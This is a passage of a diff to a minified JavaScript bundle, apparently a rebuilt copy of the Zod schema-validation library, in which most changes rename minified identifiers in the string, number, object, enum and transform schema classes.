-t)},pipe(t){return oB(this,t)},readonly(){return Mk(this)},describe(t){const e=this.clone();return rn.add(e,{description:t}),
-e},meta(...t){if(t.length===0)return rn.get(this);const e=this.clone();return rn.add(e,t[0]),e},isOptional(){return this.
+add(this,e),this},refine(t,e){return this.check(Uk(t,e))},superRefine(t,e){return this.check(Jk(t,e))},overwrite(t){return this.
+check(as(t))},optional(){return Io(this)},exactOptional(){return kk(this)},nullable(){return $o(this)},nullish(){return Io(
+$o(this))},nonoptional(t){return Sk(this,t)},array(){return Ae(this)},or(t){return Xd([this,t])},and(t){return mk(this,t)},
+transform(t){return nB(this,Qd(t))},default(t){return xk(this,t)},prefault(t){return Ak(this,t)},catch(t){return $k(this,
+t)},pipe(t){return nB(this,t)},readonly(){return Pk(this)},describe(t){const e=this.clone();return on.add(e,{description:t}),
+e},meta(...t){if(t.length===0)return on.get(this);const e=this.clone();return on.add(e,t[0]),e},isOptional(){return this.
 safeParse(void 0).success},isNullable(){return this.safeParse(null).success},apply(t,...e){return e.length===0?t(this):t(
-this,...e)},get"~standard"(){return uo(this,"~standard",{...sl(this),jsonSchema:{input:Dr(this,"input"),output:Dr(this,"\
-output")}})},set"~standard"(t){yn(this,"~standard",t)},parse:function t(e,n){return PE(this,e,n,{callee:t})},parseAsync:async function t(e,n){
-return await jE(this,e,n,{callee:t})},safeParse(t,e){return ME(this,t,e)},async safeParseAsync(t,e){return GE(this,t,e)},
-get spa(){return this?.safeParseAsync},set spa(t){yn(this,"spa",t)},validate(t,e){return RE(this,t,e)},validateAsync(t,e){
-return FE(this,t,e)},encode:function t(e,n){return HE(this,e,n,{callee:t})},decode:function t(e,n){return zE(this,e,n,{callee:t})},
-encodeAsync:async function t(e,n){return await UE(this,e,n,{callee:t})},decodeAsync:async function t(e,n){return await JE(
-this,e,n,{callee:t})},safeEncode(t,e){return ZE(this,t,e)},safeDecode(t,e){return KE(this,t,e)},async safeEncodeAsync(t,e){
-return WE(this,t,e)},async safeDecodeAsync(t,e){return qE(this,t,e)},toJSONSchema(t){return sE(this,{})(t)},get description(){
-return rn.get(this)?.description},get _def(){return this._zod.def}}),Id=N("_ZodString",(t,e)=>{Co.init(t,e),Ke.init(t,e),
-t._zod.processJSONSchema=(n,s,r)=>Wl(t,n,s,r)},hr({format:t=>ut(t).format??null,minLength:t=>ut(t).minimum??null,maxLength:t=>ut(
-t).maximum??null},{regex(...t){return this.check(P_(...t))},includes(...t){return this.check(G_(...t))},startsWith(...t){
-return this.check(H_(...t))},endsWith(...t){return this.check(z_(...t))},min(...t){return this.check(vr(...t))},max(...t){
-return this.check(Al(...t))},length(...t){return this.check(Sl(...t))},nonempty(...t){return this.check(vr(1,...t))},lowercase(t){
-return this.check(j_(t))},uppercase(t){return this.check(M_(t))},trim(){return this.check(Z_())},normalize(...t){return this.
-check(J_(...t))},toLowerCase(){return this.check(K_())},toUpperCase(){return this.check(W_())},slugify(){return this.check(
-q_())}})),$d=N("ZodString",(t,e)=>{Co.init(t,e),Id.init(t,e)},{email(t){return this.check(c_(Nd,t))},url(t){return this.
-check(h_(Oo,t))},jwt(t){return this.check(A_(Yd,t))},emoji(t){return this.check(p_(Ld,t))},guid(t){return this.check(u_(
-Fd,t))},uuid(t){return this.check(l_(En,t))},uuidv4(t){return this.check(d_(En,t))},uuidv6(t){return this.check(B_(En,t))},
-uuidv7(t){return this.check(f_(En,t))},nanoid(t){return this.check(m_(Pd,t))},cuid(t){return this.check(g_(jd,t))},cuid2(t){
-return this.check(C_(Md,t))},ulid(t){return this.check(y_(Gd,t))},base64(t){return this.check(D_(Wd,t))},base64url(t){return this.
-check(x_(qd,t))},xid(t){return this.check(w_(Hd,t))},ksuid(t){return this.check(b_(zd,t))},ipv4(t){return this.check(__(
-Ud,t))},ipv6(t){return this.check(E_(Jd,t))},cidrv4(t){return this.check(k_(Zd,t))},cidrv6(t){return this.check(v_(Kd,t))},
-e164(t){return this.check(O_(Vd,t))},datetime(t){return this.check(Ol(Rd,t))},date(t){return this.check(S_(YE,t))},time(t){
-return this.check(T_(XE,t))},duration(t){return this.check(I_(QE,t))}});function me(t){return a_($d,t)}const nt=N("ZodSt\
-ringFormat",(t,e)=>{Xe.init(t,e),Id.init(t,e)}),Rd=N("ZodISODateTime",(t,e)=>{lb.init(t,e),nt.init(t,e)}),YE=N("ZodISODa\
-te",(t,e)=>{db.init(t,e),nt.init(t,e)}),XE=N("ZodISOTime",(t,e)=>{Bb.init(t,e),nt.init(t,e)}),QE=N("ZodISODuration",(t,e)=>{
-fb.init(t,e),nt.init(t,e)}),Nd=N("ZodEmail",(t,e)=>{Vw.init(t,e),nt.init(t,e)});function tH(t){return core._email(Nd,t)}
-const Fd=N("ZodGUID",(t,e)=>{Ww.init(t,e),nt.init(t,e)});function nH(t){return core._guid(Fd,t)}const En=N("ZodUUID",(t,e)=>{
-qw.init(t,e),nt.init(t,e)});function sH(t){return core._uuid(En,t)}function rH(t){return core._uuidv4(En,t)}function iH(t){
-return core._uuidv6(En,t)}function oH(t){return core._uuidv7(En,t)}const Oo=N("ZodURL",(t,e)=>{nb.init(t,e),nt.init(t,e)});
+this,...e)},get"~standard"(){return uo(this,"~standard",{...Qu(this),jsonSchema:{input:Dr(this,"input"),output:Dr(this,"\
+output")}})},set"~standard"(t){yn(this,"~standard",t)},parse:function t(e,n){return FE(this,e,n,{callee:t})},parseAsync:async function t(e,n){
+return await LE(this,e,n,{callee:t})},safeParse(t,e){return PE(this,t,e)},async safeParseAsync(t,e){return jE(this,t,e)},
+get spa(){return this?.safeParseAsync},set spa(t){yn(this,"spa",t)},validate(t,e){return IE(this,t,e)},validateAsync(t,e){
+return RE(this,t,e)},encode:function t(e,n){return ME(this,e,n,{callee:t})},decode:function t(e,n){return GE(this,e,n,{callee:t})},
+encodeAsync:async function t(e,n){return await HE(this,e,n,{callee:t})},decodeAsync:async function t(e,n){return await zE(
+this,e,n,{callee:t})},safeEncode(t,e){return UE(this,t,e)},safeDecode(t,e){return JE(this,t,e)},async safeEncodeAsync(t,e){
+return ZE(this,t,e)},async safeDecodeAsync(t,e){return KE(this,t,e)},toJSONSchema(t){return tE(this,{})(t)},get description(){
+return on.get(this)?.description},get _def(){return this._zod.def}}),Od=N("_ZodString",(t,e)=>{Co.init(t,e),Ke.init(t,e),
+t._zod.processJSONSchema=(n,s,r)=>Ul(t,n,s,r)},hr({format:t=>ut(t).format??null,minLength:t=>ut(t).minimum??null,maxLength:t=>ut(
+t).maximum??null},{regex(...t){return this.check(F_(...t))},includes(...t){return this.check(j_(...t))},startsWith(...t){
+return this.check(M_(...t))},endsWith(...t){return this.check(G_(...t))},min(...t){return this.check(vr(...t))},max(...t){
+return this.check(vl(...t))},length(...t){return this.check(Dl(...t))},nonempty(...t){return this.check(vr(1,...t))},lowercase(t){
+return this.check(L_(t))},uppercase(t){return this.check(P_(t))},trim(){return this.check(U_())},normalize(...t){return this.
+check(z_(...t))},toLowerCase(){return this.check(J_())},toUpperCase(){return this.check(Z_())},slugify(){return this.check(
+K_())}})),Ad=N("ZodString",(t,e)=>{Co.init(t,e),Od.init(t,e)},{email(t){return this.check(o_(Td,t))},url(t){return this.
+check(B_(Oo,t))},jwt(t){return this.check(x_(Kd,t))},emoji(t){return this.check(f_($d,t))},guid(t){return this.check(a_(
+Id,t))},uuid(t){return this.check(c_(En,t))},uuidv4(t){return this.check(u_(En,t))},uuidv6(t){return this.check(l_(En,t))},
+uuidv7(t){return this.check(d_(En,t))},nanoid(t){return this.check(h_(Rd,t))},cuid(t){return this.check(p_(Nd,t))},cuid2(t){
+return this.check(m_(Fd,t))},ulid(t){return this.check(g_(Ld,t))},base64(t){return this.check(k_(Ud,t))},base64url(t){return this.
+check(v_(Jd,t))},xid(t){return this.check(C_(Pd,t))},ksuid(t){return this.check(y_(jd,t))},ipv4(t){return this.check(w_(
+Md,t))},ipv6(t){return this.check(b_(Gd,t))},cidrv4(t){return this.check(__(Hd,t))},cidrv6(t){return this.check(E_(zd,t))},
+e164(t){return this.check(D_(Zd,t))},datetime(t){return this.check(kl(Sd,t))},date(t){return this.check(O_(WE,t))},time(t){
+return this.check(A_(VE,t))},duration(t){return this.check(S_(YE,t))}});function me(t){return i_(Ad,t)}const nt=N("ZodSt\
+ringFormat",(t,e)=>{Xe.init(t,e),Od.init(t,e)}),Sd=N("ZodISODateTime",(t,e)=>{cb.init(t,e),nt.init(t,e)}),WE=N("ZodISODa\
+te",(t,e)=>{ub.init(t,e),nt.init(t,e)}),VE=N("ZodISOTime",(t,e)=>{lb.init(t,e),nt.init(t,e)}),YE=N("ZodISODuration",(t,e)=>{
+db.init(t,e),nt.init(t,e)}),Td=N("ZodEmail",(t,e)=>{qw.init(t,e),nt.init(t,e)});function tH(t){return core._email(Td,t)}
+const Id=N("ZodGUID",(t,e)=>{Zw.init(t,e),nt.init(t,e)});function nH(t){return core._guid(Id,t)}const En=N("ZodUUID",(t,e)=>{
+Kw.init(t,e),nt.init(t,e)});function sH(t){return core._uuid(En,t)}function rH(t){return core._uuidv4(En,t)}function iH(t){
+return core._uuidv6(En,t)}function oH(t){return core._uuidv7(En,t)}const Oo=N("ZodURL",(t,e)=>{eb.init(t,e),nt.init(t,e)});
 function aH(t){return core._url(Oo,t)}function cH(t){return core._url(Oo,{protocol:regexes.httpProtocol,hostname:regexes.
-domain,...util.normalizeParams(t)})}const Ld=N("ZodEmoji",(t,e)=>{sb.init(t,e),nt.init(t,e)});function uH(t){return core.
-_emoji(Ld,t)}const Pd=N("ZodNanoID",(t,e)=>{rb.init(t,e),nt.init(t,e)});function lH(t){return core._nanoid(Pd,t)}const jd=N(
-"ZodCUID",(t,e)=>{ib.init(t,e),nt.init(t,e)});function dH(t){return core._cuid(jd,t)}const Md=N("ZodCUID2",(t,e)=>{ob.init(
-t,e),nt.init(t,e)});function BH(t){return core._cuid2(Md,t)}const Gd=N("ZodULID",(t,e)=>{ab.init(t,e),nt.init(t,e)});function fH(t){
-return core._ulid(Gd,t)}const Hd=N("ZodXID",(t,e)=>{cb.init(t,e),nt.init(t,e)});function hH(t){return core._xid(Hd,t)}const zd=N(
-"ZodKSUID",(t,e)=>{ub.init(t,e),nt.init(t,e)});function pH(t){return core._ksuid(zd,t)}const Ud=N("ZodIPv4",(t,e)=>{hb.init(
-t,e),nt.init(t,e)});function mH(t){return core._ipv4(Ud,t)}const ek=null;function gH(t){return core._mac(ek,t)}const Jd=N(
-"ZodIPv6",(t,e)=>{mb.init(t,e),nt.init(t,e)});function CH(t){return core._ipv6(Jd,t)}const Zd=N("ZodCIDRv4",(t,e)=>{gb.init(
-t,e),nt.init(t,e)});function yH(t){return core._cidrv4(Zd,t)}const Kd=N("ZodCIDRv6",(t,e)=>{yb.init(t,e),nt.init(t,e)});
-function wH(t){return core._cidrv6(Kd,t)}const Wd=N("ZodBase64",(t,e)=>{wb.init(t,e),nt.init(t,e)});function bH(t){return core.
-_base64(Wd,t)}const qd=N("ZodBase64URL",(t,e)=>{_b.init(t,e),nt.init(t,e)});function _H(t){return core._base64url(qd,t)}
-const Vd=N("ZodE164",(t,e)=>{Eb.init(t,e),nt.init(t,e)});function EH(t){return core._e164(Vd,t)}const tk=null;function kH(t){
-return core._creditCard(tk,t)}const nk=null;function vH(t){return core._iban(nk,t)}const Yd=N("ZodJWT",(t,e)=>{Ob.init(t,
-e),nt.init(t,e)});function DH(t){return core._jwt(Yd,t)}const Ls=null;function xH(t,e,n={}){return core._stringFormat(Ls,
+domain,...util.normalizeParams(t)})}const $d=N("ZodEmoji",(t,e)=>{tb.init(t,e),nt.init(t,e)});function uH(t){return core.
+_emoji($d,t)}const Rd=N("ZodNanoID",(t,e)=>{nb.init(t,e),nt.init(t,e)});function lH(t){return core._nanoid(Rd,t)}const Nd=N(
+"ZodCUID",(t,e)=>{sb.init(t,e),nt.init(t,e)});function dH(t){return core._cuid(Nd,t)}const Fd=N("ZodCUID2",(t,e)=>{rb.init(
+t,e),nt.init(t,e)});function BH(t){return core._cuid2(Fd,t)}const Ld=N("ZodULID",(t,e)=>{ib.init(t,e),nt.init(t,e)});function fH(t){
+return core._ulid(Ld,t)}const Pd=N("ZodXID",(t,e)=>{ob.init(t,e),nt.init(t,e)});function hH(t){return core._xid(Pd,t)}const jd=N(
+"ZodKSUID",(t,e)=>{ab.init(t,e),nt.init(t,e)});function pH(t){return core._ksuid(jd,t)}const Md=N("ZodIPv4",(t,e)=>{Bb.init(
+t,e),nt.init(t,e)});function mH(t){return core._ipv4(Md,t)}const XE=null;function gH(t){return core._mac(XE,t)}const Gd=N(
+"ZodIPv6",(t,e)=>{hb.init(t,e),nt.init(t,e)});function CH(t){return core._ipv6(Gd,t)}const Hd=N("ZodCIDRv4",(t,e)=>{pb.init(
+t,e),nt.init(t,e)});function yH(t){return core._cidrv4(Hd,t)}const zd=N("ZodCIDRv6",(t,e)=>{gb.init(t,e),nt.init(t,e)});
+function wH(t){return core._cidrv6(zd,t)}const Ud=N("ZodBase64",(t,e)=>{Cb.init(t,e),nt.init(t,e)});function bH(t){return core.
+_base64(Ud,t)}const Jd=N("ZodBase64URL",(t,e)=>{wb.init(t,e),nt.init(t,e)});function _H(t){return core._base64url(Jd,t)}
+const Zd=N("ZodE164",(t,e)=>{bb.init(t,e),nt.init(t,e)});function EH(t){return core._e164(Zd,t)}const QE=null;function kH(t){
+return core._creditCard(QE,t)}const ek=null;function vH(t){return core._iban(ek,t)}const Kd=N("ZodJWT",(t,e)=>{Db.init(t,
+e),nt.init(t,e)});function DH(t){return core._jwt(Kd,t)}const Ls=null;function xH(t,e,n={}){return core._stringFormat(Ls,
 t,e,n)}function OH(t){return core._stringFormat(Ls,"hostname",regexes.hostname,t)}function AH(t){return core._stringFormat(
 Ls,"hex",regexes.hex,t)}function SH(t){return core._stringFormat(Ls,"currency_code",regexes.currencyCode,t)}function TH(t,e){
 const n=e?.enc??"hex",s=`${t}_${n}`,r=core.regexes[s];if(!r)throw new Error(`Unrecognized hash format: ${s}`);return core.
-_stringFormat(Ls,s,r,e)}const Xd=N("ZodNumber",(t,e)=>{ll.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ql(t,
+_stringFormat(Ls,s,r,e)}const qd=N("ZodNumber",(t,e)=>{ol.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Jl(t,
 n,s,r),t.isFinite=!0},hr({minValue:t=>{const{minimum:e,exclusiveMinimum:n}=ut(t);return Math.max(e??Number.NEGATIVE_INFINITY,
 n??Number.NEGATIVE_INFINITY)},maxValue:t=>{const{maximum:e,exclusiveMaximum:n}=ut(t);return Math.min(e??Number.POSITIVE_INFINITY,
 n??Number.POSITIVE_INFINITY)},isInt:t=>{const{isInt:e,multipleOf:n}=ut(t);return!!e||!!n?.some(Number.isSafeInteger)},format:t=>ut(
@@ -2799,209 +2801,209 @@ t).format??null},{gt(t,e){return this.check($s(t,e))},gte(t,e){return this.check
 t,e))},lt(t,e){return this.check(Is(t,e))},lte(t,e){return this.check(bn(t,e))},max(t,e){return this.check(bn(t,e))},int(t){
 return this.check(ot(t))},safe(t){return this.check(ot(t))},positive(t){return this.check($s(0,t))},nonnegative(t){return this.
 check(_n(0,t))},negative(t){return this.check(Is(0,t))},nonpositive(t){return this.check(bn(0,t))},multipleOf(t,e){return this.
-check(bo(t,e))},step(t,e){return this.check(bo(t,e))},finite(){return this}}));function Ps(t){return $_(Xd,t)}const js=N(
-"ZodNumberFormat",(t,e)=>{Ab.init(t,e),Xd.init(t,e)});function ot(t){return R_(js,t)}function IH(t){return core._float32(
+check(bo(t,e))},step(t,e){return this.check(bo(t,e))},finite(){return this}}));function Ps(t){return T_(qd,t)}const js=N(
+"ZodNumberFormat",(t,e)=>{xb.init(t,e),qd.init(t,e)});function ot(t){return I_(js,t)}function IH(t){return core._float32(
 js,t)}function $H(t){return core._float64(js,t)}function RH(t){return core._int32(js,t)}function NH(t){return core._uint32(
-js,t)}const Qd=N("ZodBoolean",(t,e)=>{Sb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Vl(t,n,s,r)});function on(t){
-return N_(Qd,t)}const sk=N("ZodBigInt",(t,e)=>{Tb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Yl(t,n,s,r)},
+js,t)}const Wd=N("ZodBoolean",(t,e)=>{Ob.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Zl(t,n,s,r)});function an(t){
+return $_(Wd,t)}const tk=N("ZodBigInt",(t,e)=>{Ab.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Kl(t,n,s,r)},
 hr({minValue:t=>ut(t).minimum??null,maxValue:t=>ut(t).maximum??null,format:t=>ut(t).format??null},{gte(t,e){return this.
 check(_n(t,e))},min(t,e){return this.check(_n(t,e))},gt(t,e){return this.check($s(t,e))},lt(t,e){return this.check(Is(t,
 e))},lte(t,e){return this.check(bn(t,e))},max(t,e){return this.check(bn(t,e))},positive(t){return this.check($s(BigInt(0),
 t))},negative(t){return this.check(Is(BigInt(0),t))},nonpositive(t){return this.check(bn(BigInt(0),t))},nonnegative(t){return this.
-check(_n(BigInt(0),t))},multipleOf(t,e){return this.check(bo(t,e))}}));function FH(t){return core._bigint(sk,t)}const eB=null;
-function LH(t){return core._int64(eB,t)}function PH(t){return core._uint64(eB,t)}const rk=null;function jH(t){return core.
-_symbol(rk,t)}const ik=null;function MH(t){return core._undefined(ik,t)}const ok=null;function ak(t){return core._null(ok,
-t)}const ck=null;function GH(){return core._any(ck)}const uk=N("ZodUnknown",(t,e)=>{Ib.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>Ql(t,n,s,r)});function Nn(){return F_(uk)}const lk=N("ZodNever",(t,e)=>{$b.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>Xl(t,n,s,r)});function tB(t){return L_(lk,t)}const dk=null;function HH(t){return core._void(dk,t)}const Bk=N("Z\
-odDate",(t,e)=>{Rb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ed(t,n,s,r),t.min=(n,s)=>t.check(_n(n,s)),t.
+check(_n(BigInt(0),t))},multipleOf(t,e){return this.check(bo(t,e))}}));function FH(t){return core._bigint(tk,t)}const Vd=null;
+function LH(t){return core._int64(Vd,t)}function PH(t){return core._uint64(Vd,t)}const nk=null;function jH(t){return core.
+_symbol(nk,t)}const sk=null;function MH(t){return core._undefined(sk,t)}const rk=null;function ik(t){return core._null(rk,
+t)}const ok=null;function GH(){return core._any(ok)}const ak=N("ZodUnknown",(t,e)=>{Sb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>Wl(t,n,s,r)});function Nn(){return R_(ak)}const ck=N("ZodNever",(t,e)=>{Tb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>ql(t,n,s,r)});function Yd(t){return N_(ck,t)}const uk=null;function HH(t){return core._void(uk,t)}const lk=N("Z\
+odDate",(t,e)=>{Ib.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Vl(t,n,s,r),t.min=(n,s)=>t.check(_n(n,s)),t.
 max=(n,s)=>t.check(bn(n,s))},hr({minDate:t=>{const{minimum:e}=ut(t);return e?new Date(e):null},maxDate:t=>{const{maximum:e}=ut(
-t);return e?new Date(e):null}},{}));function zH(t){return core._date(Bk,t)}const fk=N("ZodArray",(t,e)=>{Fs(),Lb.init(t,
-e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>id(t,n,s,r),t.element=e.element},{min(t,e){return this.check(vr(t,e))},
-nonempty(t){return this.check(vr(1,t))},max(t,e){return this.check(Al(t,e))},length(t,e){return this.check(Sl(t,e))},unwrap(){
-return this.element}});function Ae(t,e){return V_(fk,t,e)}function UH(t){const e=t._zod.def.shape;return We(Object.keys(
-e))}const Ao=N("ZodObject",(t,e)=>{Fs(),Mb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>od(t,n,s,r),Zy(t,"sh\
-ape",n=>n._zod.def.shape,!1)},{keyof(){return We(Object.keys(this._zod.def.shape))},catchall(t){return this.clone(kt(this.
+t);return e?new Date(e):null}},{}));function zH(t){return core._date(lk,t)}const dk=N("ZodArray",(t,e)=>{Fs(),Nb.init(t,
+e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>td(t,n,s,r),t.element=e.element},{min(t,e){return this.check(vr(t,e))},
+nonempty(t){return this.check(vr(1,t))},max(t,e){return this.check(vl(t,e))},length(t,e){return this.check(Dl(t,e))},unwrap(){
+return this.element}});function Ae(t,e){return q_(dk,t,e)}function UH(t){const e=t._zod.def.shape;return qe(Object.keys(
+e))}const Ao=N("ZodObject",(t,e)=>{Fs(),Pb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>nd(t,n,s,r),Uy(t,"sh\
+ape",n=>n._zod.def.shape,!1)},{keyof(){return qe(Object.keys(this._zod.def.shape))},catchall(t){return this.clone(kt(this.
 _zod.def,{catchall:t}))},passthrough(){return this.clone(kt(this._zod.def,{catchall:Nn()}))},loose(){return this.clone(kt(
-this._zod.def,{catchall:Nn()}))},strict(){return this.clone(kt(this._zod.def,{catchall:tB()}))},strip(){return this.clone(
-kt(this._zod.def,{catchall:void 0}))},extend(t){return $y(this,t)},safeExtend(t){return Ry(this,t)},merge(t){return Ny(this,
-t)},pick(t){return Ty(this,t)},omit(t){return Iy(this,t)},partial(...t){return zu(To,this,t[0])},exactPartial(...t){return zu(
-rB,this,t[0],"exactPartial")},required(...t){return Fy(iB,this,t[0])}});function mt(t,e){const n={type:"object",shape:t??
-{},...Be(e)};return new Ao(n)}function Wt(t,e){return new Ao({type:"object",shape:t,catchall:tB(),...Be(e)})}function $r(t,e){
-return new Ao({type:"object",shape:t,catchall:Nn(),...Be(e)})}const hk=N("ZodUnion",(t,e)=>{Gb.init(t,e),Ke.init(t,e),t.
-_zod.processJSONSchema=(n,s,r)=>ad(t,n,s,r),t.options=e.options});function nB(t,e){return new hk({type:"union",options:t,
-...Be(e)})}const pk=null;function JH(t,e){return new pk({type:"union",options:t,inclusive:!1,...util.normalizeParams(e)})}
-const mk=null;function ZH(t,e,n){return new mk({type:"union",options:e,discriminator:t,...util.normalizeParams(n)})}const gk=N(
-"ZodIntersection",(t,e)=>{zb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>cd(t,n,s,r)});function Ck(t,e){return new gk(
-{type:"intersection",left:t,right:e})}const yk=N("ZodTuple",(t,e)=>{Fs(),Ub.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>ud(t,n,s,r)},{rest(t){return this.clone({...this._zod.def,rest:t})},partial(){const t=this._zod.def;if(t.checks?.
+this._zod.def,{catchall:Nn()}))},strict(){return this.clone(kt(this._zod.def,{catchall:Yd()}))},strip(){return this.clone(
+kt(this._zod.def,{catchall:void 0}))},extend(t){return Ty(this,t)},safeExtend(t){return Iy(this,t)},merge(t){return $y(this,
+t)},pick(t){return Ay(this,t)},omit(t){return Sy(this,t)},partial(...t){return ju(To,this,t[0])},exactPartial(...t){return ju(
+eB,this,t[0],"exactPartial")},required(...t){return Ry(tB,this,t[0])}});function mt(t,e){const n={type:"object",shape:t??
+{},...Be(e)};return new Ao(n)}function Wt(t,e){return new Ao({type:"object",shape:t,catchall:Yd(),...Be(e)})}function $r(t,e){
+return new Ao({type:"object",shape:t,catchall:Nn(),...Be(e)})}const Bk=N("ZodUnion",(t,e)=>{jb.init(t,e),Ke.init(t,e),t.
+_zod.processJSONSchema=(n,s,r)=>sd(t,n,s,r),t.options=e.options});function Xd(t,e){return new Bk({type:"union",options:t,
+...Be(e)})}const fk=null;function JH(t,e){return new fk({type:"union",options:t,inclusive:!1,...util.normalizeParams(e)})}
+const hk=null;function ZH(t,e,n){return new hk({type:"union",options:e,discriminator:t,...util.normalizeParams(n)})}const pk=N(
+"ZodIntersection",(t,e)=>{Gb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>rd(t,n,s,r)});function mk(t,e){return new pk(
+{type:"intersection",left:t,right:e})}const gk=N("ZodTuple",(t,e)=>{Fs(),Hb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>id(t,n,s,r)},{rest(t){return this.clone({...this._zod.def,rest:t})},partial(){const t=this._zod.def;if(t.checks?.
 length)throw new Error(".partial() cannot be used on tuple schemas containing refinements");return this.clone({...t,items:t.
-items.map(e=>new To({type:"optional",innerType:e}))})}});function wk(t,e,n){const s=e instanceof core.$ZodType,r=s?n:e,i=s?
-e:null;return new yk({type:"tuple",items:t,rest:i,...util.normalizeParams(r)})}const Rr=N("ZodRecord",(t,e)=>{Fs(),Jb.init(
-t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ld(t,n,s,r),t.keyType=e.keyType,t.valueType=e.valueType});function kn(t,e,n){
+items.map(e=>new To({type:"optional",innerType:e}))})}});function Ck(t,e,n){const s=e instanceof core.$ZodType,r=s?n:e,i=s?
+e:null;return new gk({type:"tuple",items:t,rest:i,...util.normalizeParams(r)})}const Rr=N("ZodRecord",(t,e)=>{Fs(),zb.init(
+t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>od(t,n,s,r),t.keyType=e.keyType,t.valueType=e.valueType});function kn(t,e,n){
 return!e||!e._zod?new Rr({type:"record",keyType:me(),valueType:t,...Be(e)}):new Rr({type:"record",keyType:t,valueType:e,
 ...Be(n)})}function So(t,e,n){return new Rr({type:"record",keyType:t,valueType:e,...Be(n),partial:!0})}function KH(t,e,n){
-return new Rr({type:"record",keyType:t,valueType:e,mode:"loose",...util.normalizeParams(n)})}const bk=null;function WH(t,e,n){
-return new bk({type:"map",keyType:t,valueType:e,...util.normalizeParams(n)})}const _k=null;function qH(t,e){return new _k(
-{type:"set",valueType:t,...util.normalizeParams(e)})}const Nr=N("ZodEnum",(t,e)=>{Zb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
-(s,r,i)=>td(t,s,r,i),t.enum=e.entries,t.options=[...t._zod.values];const n=new Set(Object.keys(e.entries));t.extract=(s,r)=>{
+return new Rr({type:"record",keyType:t,valueType:e,mode:"loose",...util.normalizeParams(n)})}const yk=null;function qH(t,e,n){
+return new yk({type:"map",keyType:t,valueType:e,...util.normalizeParams(n)})}const wk=null;function WH(t,e){return new wk(
+{type:"set",valueType:t,...util.normalizeParams(e)})}const Nr=N("ZodEnum",(t,e)=>{Ub.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
+(s,r,i)=>Yl(t,s,r,i),t.enum=e.entries,t.options=[...t._zod.values];const n=new Set(Object.keys(e.entries));t.extract=(s,r)=>{
 const i={};for(const o of s)if(n.has(o))i[o]=e.entries[o];else throw new Error(`Key ${o} not found in enum`);return new Nr(
 {...e,checks:[],...Be(r),entries:i})},t.exclude=(s,r)=>{const i={...e.entries};for(const o of s)if(n.has(o))delete i[o];else
-throw new Error(`Key ${o} not found in enum`);return new Nr({...e,checks:[],...Be(r),entries:i})}});function We(t,e){const n=Array.
+throw new Error(`Key ${o} not found in enum`);return new Nr({...e,checks:[],...Be(r),entries:i})}});function qe(t,e){const n=Array.
 isArray(t)?Object.fromEntries(t.map(s=>[s,s])):t;return new Nr({type:"enum",entries:n,...Be(e)})}function VH(t,e){return new Nr(
-{type:"enum",entries:t,...util.normalizeParams(e)})}const Ek=N("ZodLiteral",(t,e)=>{Kb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>nd(t,n,s,r),t.values=new Set(e.values),Object.defineProperty(t,"value",{get(){if(e.values.length>1)throw new Error(
-"This schema contains multiple valid literal values. Use `.values` instead.");return e.values[0]}})});function Ms(t,e){return new Ek(
-{type:"literal",values:Array.isArray(t)?t:[t],...Be(e)})}const kk=null;function YH(t){return core._file(kk,t)}const vk=N(
-"ZodTransform",(t,e)=>{Fs(),Wb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>rd(t,n,s,r),t._zod.parse=(n,s)=>{
-if(s.direction==="backward")throw new Ku(t.constructor.name);n.addIssue=i=>{if(typeof i=="string")n.issues.push(As(i,n.value,
+{type:"enum",entries:t,...util.normalizeParams(e)})}const bk=N("ZodLiteral",(t,e)=>{Jb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>Xl(t,n,s,r),t.values=new Set(e.values),Object.defineProperty(t,"value",{get(){if(e.values.length>1)throw new Error(
+"This schema contains multiple valid literal values. Use `.values` instead.");return e.values[0]}})});function Ms(t,e){return new bk(
+{type:"literal",values:Array.isArray(t)?t:[t],...Be(e)})}const _k=null;function YH(t){return core._file(_k,t)}const Ek=N(
+"ZodTransform",(t,e)=>{Fs(),Zb.init(t,e),Ke.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ed(t,n,s,r),t._zod.parse=(n,s)=>{
+if(s.direction==="backward")throw new zu(t.constructor.name);n.addIssue=i=>{if(typeof i=="string")n.issues.push(As(i,n.value,
 e));else{const o=i;o.fatal&&(o.continue=!1),o.code??(o.code="custom"),"input"in o||(o.input=n.value),o.inst??(o.inst=t),
 n.issues.push(As(o))}};const r=e.transform(n.value,n);return r instanceof Promise?r.then(i=>(n.value=i,n)):(n.value=r,n)}});
-function sB(t){return new vk({type:"transform",transform:t})}const To=N("ZodOptional",(t,e)=>{wl.init(t,e),Ke.init(t,e),
+function Qd(t){return new Ek({type:"transform",transform:t})}const To=N("ZodOptional",(t,e)=>{ml.init(t,e),Ke.init(t,e),
